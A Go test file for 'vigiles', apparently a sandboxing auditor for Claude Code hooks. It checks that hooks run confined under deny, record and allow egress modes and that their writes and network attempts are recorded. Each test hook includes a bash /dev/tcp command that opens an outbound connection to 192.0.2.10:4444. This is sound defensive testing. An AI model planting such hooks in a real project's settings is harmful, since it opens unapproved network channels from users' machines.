package escape

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestAuditPreparedRunsInEveryMode audits a repository of hooks through
// the vigiles binary in each egress mode. An audit prepares the next
// hooks' sandboxes while others run (the connector too, in allow mode):
// each hook must still run confined, with its own stdin, and be recorded
// exactly (its one write, its attempt at the network).
func TestAuditPreparedRunsInEveryMode(t *testing.T) {
	requireBwrap(t)
	const hooks = 6
	var hs []string
	for i := 0; i < hooks; i++ {
		// The payload names the event; the write names the hook. Claude
		// Code runs the command with sh, so bash's /dev/tcp needs bash.
		hs = append(hs, fmt.Sprintf(`{"type": "command", "command": "grep -q Stop && echo %d > out-%d.txt; bash -c 'echo hi > /dev/tcp/192.0.2.10/4444' 2>/dev/null; exit 0"}`, i, i))
	}
	settings := `{"hooks": {"Stop": [{"hooks": [` + strings.Join(hs, ", ") + `]}]}}`
	for _, mode := range []string{"deny", "record", "allow"} {
		t.Run(mode, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.MkdirAll(filepath.Join(dir, ".claude"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, ".claude", "settings.json"), []byte(settings), 0o644); err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			args := []string{"audit", "--dir", dir, "--format", "json", "--baseline", "", "-q", "--jobs", "2", "--egress", mode}
			if mode == "allow" {
				// Allow mode needs something allowed: a name no hook asks.
				args = append(args, "--allow", "allowed.example.test")
			}
			cmd := exec.CommandContext(ctx, vigilesBin, args...)
			cmd.Dir = dir
			var stdout, stderr bytes.Buffer
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err := cmd.Run()
			var rep struct {
				Runs []struct {
					ID       string `json:"id"`
					Tier     string `json:"tier"`
					Outcome  string `json:"outcome"`
					ExitCode int    `json:"exitCode"`
					Command  string `json:"command"`
					Writes   []struct {
						Path string `json:"path"`
					} `json:"writes"`
					Egress []struct {
						IP      string `json:"ip"`
						Allowed bool   `json:"allowed"`
					} `json:"egress"`
				} `json:"runs"`
			}
			if jerr := json.Unmarshal(stdout.Bytes(), &rep); jerr != nil {
				t.Fatalf("vigiles audit --egress %s: %v; no JSON report (%v)\nstderr: %s", mode, err, jerr, stderr.String())
			}
			if len(rep.Runs) != hooks {
				t.Fatalf("%d runs, want %d\nstderr: %s", len(rep.Runs), hooks, stderr.String())
			}
			for _, r := range rep.Runs {
				if r.Tier != "confined" || r.ExitCode != 0 {
					t.Errorf("%s: tier %s exit %d outcome %s", r.ID, r.Tier, r.ExitCode, r.Outcome)
					continue
				}
				var n int
				fmt.Sscanf(r.Command[strings.Index(r.Command, "echo ")+5:], "%d", &n)
				if want := fmt.Sprintf("out-%d.txt", n); len(r.Writes) != 1 || r.Writes[0].Path != want {
					t.Errorf("%s: writes %+v, want exactly %s (and the payload on stdin)", r.ID, r.Writes, want)
				}
				seen := false
				for _, e := range r.Egress {
					if e.IP == "192.0.2.10" {
						seen = true
						if e.Allowed {
							t.Errorf("%s: %s mode allowed %s", r.ID, mode, e.IP)
						}
					}
				}
				if !seen {
					t.Errorf("%s: the attempt at 192.0.2.10 is missing from %+v", r.ID, r.Egress)
				}
			}
		})
	}
}
